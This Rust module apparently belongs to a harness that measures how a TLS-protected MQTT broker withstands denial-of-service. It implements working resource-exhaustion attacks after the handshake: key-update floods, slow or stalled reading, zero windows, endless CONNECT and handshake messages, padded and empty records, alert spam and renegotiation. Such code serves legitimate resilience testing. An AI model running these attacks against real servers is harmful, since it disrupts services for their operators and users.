//! Attacks after a handshake, which any client of a one-way deployment can complete.

use std::{
    io,
    time::{Duration, Instant},
};

use super::{
    Attacker, Tally, TlsVersion,
    handshakes::hello,
    sealed::{ALERT, APPLICATION_DATA, HANDSHAKE, Sealed},
};
use crate::Packet;

pub(super) const ROUND: Duration = Duration::from_millis(20);
/// The attacker shares two cores with the victim.
const PIECES_A_ROUND: usize = 16;

pub(super) fn key_updates(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| talk.update_keys(false))
}

pub(super) fn answered_key_updates(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| talk.update_keys(true))
}

pub(super) fn unread_key_updates(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Unread, |talk| talk.update_keys(true))
}

pub(super) fn slow_reader(attacker: &Attacker) -> Tally {
    subscribed(attacker, |session| session.forget_some_answers(1024))
}

pub(super) fn reader_that_stops(attacker: &Attacker) -> Tally {
    // The system's socket buffers have grown by then.
    let end = Instant::now() + attacker.span / 2;
    subscribed(attacker, |session| if Instant::now() < end { session.forget_answers() } else { Ok(()) })
}

pub(super) fn zero_window(attacker: &Attacker) -> Tally {
    subscribed(attacker, |_| Ok(()))
}

pub(super) fn announced_connect(attacker: &Attacker) -> Tally {
    const CONNECT: &[u8] = b"\x10\xff\xff\xff\x7f\0\x04MQTT\x04\x02\0\x3c\0\x01a";
    let open = || Sealed::saying(attacker, &attacker.patient_host, CONNECT);
    attacker.keep(ROUND, open, Sealed::forget_answers)
}

pub(super) fn endless_connect(attacker: &Attacker) -> Tally {
    let open = || {
        let mut session = Sealed::open(attacker, &attacker.patient_host, TlsVersion::Tls13)?;
        // A remaining length of one megabyte, minus the last byte.
        let mut packet = b"\x10\x80\x80\x40\0\x04MQTT\x04\x02\0\x3c".to_vec();
        packet.resize(4 + 1024 * 1024 - 1, b'a');
        packet.chunks(16 * 1024).for_each(|piece| session.seal(APPLICATION_DATA, piece));
        Ok(session)
    };
    attacker.keep(ROUND, open, |session| {
        session.send()?;
        session.forget_answers()
    })
}

pub(super) fn silence(attacker: &Attacker) -> Tally {
    let open = || Sealed::open(attacker, &attacker.patient_host, TlsVersion::Tls13);
    attacker.keep(ROUND, open, Sealed::forget_answers)
}

pub(super) fn empty_records(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
        talk.session.seal(APPLICATION_DATA, &[]);
    })
}

pub(super) fn padded_records(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
        // In every round it would be 40 MB a second per connection.
        if talk.said.is_multiple_of(PIECES_A_ROUND) {
            talk.session.seal_padded(APPLICATION_DATA, &[], 16 * 1024);
        }
        talk.say_a_byte(if talk.said.is_multiple_of(PIECES_A_ROUND) { 16 * 1024 } else { 0 });
    })
}

pub(super) fn warnings(attacker: &Attacker) -> Tally {
    const USER_CANCELED: [u8; 2] = [1, 90];
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
        talk.session.seal(ALERT, &USER_CANCELED);
        talk.say_a_byte(0);
    })
}

pub(super) fn endless_message(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
        // A ticket of 16 MB, the longest possible.
        let piece: &[u8] = if talk.said == 0 { &[4, 0xff, 0xff, 0xff] } else { &[0; 1024] };
        talk.said += piece.len();
        talk.session.seal(HANDSHAKE, piece);
    })
}

pub(super) fn messages_out_of_place(attacker: &Attacker) -> Tally {
    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
        talk.session.seal(HANDSHAKE, &[&[20, 0, 0, 32][..], &[0; 32]].concat());
    })
}

pub(super) fn renegotiation(attacker: &Attacker) -> Tally {
    let hello = hello(&attacker.device.clone().with_tls12(), &attacker.patient_host);
    endless(attacker, TlsVersion::Tls12, Answers::Forgotten, |talk| {
        talk.session.seal(HANDSHAKE, &hello[5..]);
        talk.say_a_byte(0);
    })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Answers {
    Forgotten,
    Unread,
}

struct Talk {
    session: Sealed,
    said: usize,
}

impl Talk {
    /// Application data resets a TLS library's counters of other records: a byte of an endless
    /// message.
    fn say_a_byte(&mut self, padding: usize) {
        const PAYLOAD: usize = 1024 * 1024;
        // A PUBLISH with a one-letter topic and the payload.
        const HEAD: [u8; 7] = [0x30, 0x83, 0x80, 0x40, 0, 1, b'a'];
        let byte = [0];
        let piece: &[u8] = if self.said.is_multiple_of(PAYLOAD + 1) { &HEAD } else { &byte };
        self.said += 1;
        self.session.seal_padded(APPLICATION_DATA, piece, padding.saturating_sub(piece.len()));
    }

    fn update_keys(&mut self, answer_wanted: bool) {
        self.session.update_keys(answer_wanted);
        self.say_a_byte(0);
    }
}

fn endless(attacker: &Attacker, version: TlsVersion, answers: Answers, say: impl Fn(&mut Talk)) -> Tally {
    let open = || {
        let mut session = Sealed::open(attacker, &attacker.patient_host, version)?;
        session.seal(APPLICATION_DATA, Packet::connect("endless").bytes());
        Ok(Talk { session, said: 0 })
    };
    attacker.keep(ROUND, open, |talk| {
        if answers == Answers::Forgotten {
            talk.session.forget_answers()?;
        }
        if talk.session.send()? {
            (0..PIECES_A_ROUND).for_each(|_| say(talk));
            talk.session.send()?;
        }
        Ok(())
    })
}

/// Makes the talkative broker start by `words`, and reads by `read`.
pub(super) fn flooded(
    attacker: &Attacker,
    words: &[u8],
    read: impl Fn(&mut Sealed) -> io::Result<()>,
) -> Tally {
    let open = || Sealed::saying(attacker, &attacker.talkative_host, words);
    attacker.keep(Duration::from_millis(100), open, read)
}

fn subscribed(attacker: &Attacker, read: impl Fn(&mut Sealed) -> io::Result<()>) -> Tally {
    flooded(attacker, Packet::connect("reader").bytes(), read)
}
